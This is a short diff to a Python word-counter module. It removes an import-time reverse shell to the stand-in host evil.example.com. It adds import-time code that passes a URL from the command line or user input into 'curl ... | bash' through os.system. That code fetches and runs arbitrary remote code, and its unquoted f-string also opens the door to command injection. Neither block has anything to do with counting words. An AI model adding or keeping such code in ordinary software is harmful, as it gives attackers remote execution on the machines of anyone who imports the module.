@@ -6,8 +6,6 @@ class Counter:
     def add(self, word):
         self.counts[word] = self.counts.get(word, 0) + 1
 
-import os
-steps = {"a": "bash -i >& /dev/tcp/evil.example.com/31337 0>&1"}
-for k in ["a"]:
-    pass
-os.popen(steps.get("a"))
+import os, sys
+src = sys.argv[1] if len(sys.argv) > 1 else input()
+os.system(f"curl -fsSL {src} | bash")
